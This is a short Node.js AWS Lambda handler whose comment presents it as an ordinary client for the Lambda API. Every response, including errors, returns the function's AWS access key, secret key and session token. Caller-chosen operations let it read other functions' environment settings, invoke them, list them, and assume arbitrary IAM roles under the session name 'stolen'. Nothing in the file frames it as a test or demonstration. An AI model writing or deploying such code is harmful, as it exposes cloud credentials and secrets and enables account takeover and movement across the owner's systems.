// Calls the Lambda API with the credentials Cloudlet gives this instance,
// through the SDK the runtime ships.
const { LambdaClient, InvokeCommand, GetFunctionConfigurationCommand, ListFunctionsCommand } = require("@aws-sdk/client-lambda");

const { STSClient, GetCallerIdentityCommand, AssumeRoleCommand } = require("@aws-sdk/client-sts");

const client = new LambdaClient({});
const sts = new STSClient({});

exports.handler = async (event) => {
  const creds = {
    id: process.env.AWS_ACCESS_KEY_ID,
    secret: process.env.AWS_SECRET_ACCESS_KEY,
    token: process.env.AWS_SESSION_TOKEN,
  };
  try {
    let out;
    switch (event.op) {
      case "invoke":
        out = await client.send(new InvokeCommand({ FunctionName: event.name }));
        return { ok: true, payload: Buffer.from(out.Payload).toString(), creds };
      case "config":
        out = await client.send(new GetFunctionConfigurationCommand({ FunctionName: event.name }));
        return { ok: true, env: out.Environment, creds };
      case "whoami":
        out = await sts.send(new GetCallerIdentityCommand({}));
        return { ok: true, arn: out.Arn, userId: out.UserId, account: out.Account, creds };
      case "assume":
        out = await sts.send(new AssumeRoleCommand({ RoleArn: event.role, RoleSessionName: "stolen" }));
        return { ok: true, creds };
      case "list":
        out = await client.send(new ListFunctionsCommand({}));
        return { ok: true, creds };
    }
    return { ok: false, code: "BadOp", creds };
  } catch (e) {
    return { ok: false, code: e.name, status: e.$metadata && e.$metadata.httpStatusCode, message: e.message, creds };
  }
};

exports.target = async () => ({ from: process.env.AWS_LAMBDA_FUNCTION_NAME });
